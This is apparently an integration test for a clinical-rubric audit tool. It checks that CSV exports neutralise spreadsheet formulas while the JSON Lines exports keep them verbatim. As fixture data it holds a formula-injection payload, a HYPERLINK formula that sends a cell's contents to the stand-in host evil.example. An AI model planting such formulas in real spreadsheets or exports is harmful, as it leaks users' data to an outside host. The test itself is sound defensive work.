// Formula injection through a release (issue 16, finding 2): an expert's proposed revision that is a spreadsheet
// formula reaches a frozen release's criteria.csv neutralised, its JSON Lines verbatim, and the manifest says
// which formats were neutralised. Real database, the real audit, freeze and export functions.
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { beforeAll, expect, it } from 'vitest';
import { composeCriterionText } from '@/lib/export/compose-criterion-text';
import { claimNext } from '@/lib/audit/claim-next';
import { createCampaign } from '@/lib/audit/create-campaign';
import { getExpertAssignment } from '@/lib/audit/expert-view';
import { createCampaignSchema, verdictDraftSchema } from '@/lib/audit/schemas';
import { saveVerdict, submitAssignment } from '@/lib/audit/verdicts';
import type { SessionUser } from '@/lib/auth/roles';
import { prisma } from '@/lib/db';
import { runReleaseJob } from '@/lib/releases/run-release-job';
import { readStoredFile } from '@/lib/files/stored-file';
import { importFile } from '@/lib/import/import-file';
import { bufferSource } from '@/lib/import/read-lines';
import { createRelease } from '@/lib/releases/create-release';
import { type ReleaseManifest, freezeRelease } from '@/lib/releases/freeze-release';
import { requestExport } from '@/lib/releases/request-export';
import { rulesSchema } from '@/lib/releases/schemas';
import { seedDemo } from '@/lib/seed/seed-demo';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open guideline")';
const DESCRIPTION = '-Infinity risk: @SUM(A1:A9) if untreated';

let releaseId: number;

async function text(format: string): Promise<string> {
  const file = await prisma.releaseFile.findFirstOrThrow({ where: { releaseId, format, status: 'SUCCEEDED' } });
  const parts: Buffer[] = [];
  for await (const part of readStoredFile(file.storedFileId ?? 0)) parts.push(Buffer.from(part));
  return Buffer.concat(parts).toString('utf8');
}

beforeAll(async () => {
  await seedDemo({ log: () => {} });
  const adminRow = await prisma.user.findFirstOrThrow({ where: { role: 'ADMIN' } });
  const admin: SessionUser = { ...adminRow, role: 'ADMIN', specialties: [], active: true };
  const expertId = randomUUID();
  await prisma.user.create({ data: { id: expertId, email: `csv-${expertId}@test.local`, name: 'CSV expert', role: 'EXPERT' } });
  const record = {
    id: 'csv-q1',
    category: 'CLINICAL_CARE',
    conversation: [{ role: 'user', content: 'Is this rash dangerous?' }],
    criteria: [
      { id: 'c1', title: 'Names the warning signs', description: 'Fever, spreading redness.', tier: 'ESSENTIAL', points: 8 },
      { id: 'c2', title: 'Recommends antibiotics without seeing it', description: 'Harmful.', tier: 'PITFALL', points: -8 },
    ],
  };
  const imported = await importFile({
    source: bufferSource('csv-injection.jsonl', `${JSON.stringify(record)}\n`),
    datasetName: `CSV injection ${randomUUID().slice(0, 8)}`,
  });
  if (!imported.ok || !imported.datasetId) throw new Error('import failed');
  const campaign = await createCampaign({
    actor: admin,
    input: createCampaignSchema.parse({
      name: `CSV injection ${randomUUID().slice(0, 8)}`,
      overlapK: 1,
      expertIds: [expertId],
      selection: { mode: 'filter', datasetId: imported.datasetId },
    }),
  });
  const claim = await claimNext({ campaignId: campaign.id, expertId });
  if (claim.kind === 'none') throw new Error('nothing to claim');
  const view = await getExpertAssignment({ assignmentId: claim.assignmentId, expertId });
  if (!view) throw new Error('no assignment');
  for (const criterion of view.criteria) {
    const revise = criterion.title.startsWith('Names');
    const draft = verdictDraftSchema.parse({
      assignmentId: claim.assignmentId,
      criterionId: criterion.id,
      rowVersion: 0,
      decision: revise ? 'REVISE_MINOR' : 'ACCEPT',
      ...(revise
        ? {
            dimensions: ['RELEVANCE'],
            proposedRevision: { title: FORMULA, description: DESCRIPTION, tier: criterion.tier, points: criterion.points },
          }
        : {}),
    });
    const saved = await saveVerdict({ expertId, draft });
    if (saved.status !== 'saved') throw new Error(`verdict not saved: ${saved.status}`);
  }
  await submitAssignment({ expertId, input: { assignmentId: claim.assignmentId, rowVersion: view.rowVersion, comprehensiveness: 4 } });
  const rules = rulesSchema.parse({ datasetIds: [imported.datasetId], decisions: ['ACCEPT', 'REVISE_MINOR'], text: 'revised' });
  const release = await createRelease({ actor: admin, input: { name: `CSV injection ${randomUUID().slice(0, 8)}`, rules } });
  releaseId = release.id;
  await freezeRelease({ actor: admin, releaseId });
  await requestExport({ actor: admin, releaseId, formats: ['csv', 'native', 'healthbench'], enqueueJob: false });
  await runReleaseJob({ releaseId });
}, 120_000);

it("the release's criteria.csv carries the expert's formula neutralised; numbers stay numbers", async () => {
  const rows = parse(await text('csv'), { columns: true }) as Record<string, string>[];
  const revised = rows.find((row) => row.criterion_id === 'c1');
  expect(revised?.title).toBe(`'${FORMULA}`);
  expect(revised?.description).toBe(`'${DESCRIPTION}`);
  expect(revised?.text_source).toBe('expert_proposal');
  expect(rows.find((row) => row.criterion_id === 'c2')?.points).toBe('-8');
  // Nothing in the file starts a cell with a formula character except plain numbers.
  for (const row of rows) for (const cell of Object.values(row)) expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d/.test(cell), cell).toBe(false);
});

it('the JSON Lines files carry the text verbatim, and the manifest says which formats were neutralised', async () => {
  const native = (await text('native'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(native[0].criteria.find((c: { id: string }) => c.id === 'c1')).toMatchObject({ title: FORMULA, description: DESCRIPTION });
  const healthbench = (await text('healthbench'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  // HealthBench has one text field: the title and the description, composed (verbatim, not neutralised).
  expect(healthbench[0].rubrics.map((r: { criterion: string }) => r.criterion)).toContain(composeCriterionText(FORMULA, DESCRIPTION));
  const release = await prisma.release.findUniqueOrThrow({ where: { id: releaseId } });
  const manifest = release.manifest as unknown as ReleaseManifest;
  expect(manifest.formulaNeutralised?.formats).toEqual(['csv']);
  expect(manifest.formulaNeutralised?.rule).toMatch(/apostrophe/);
});
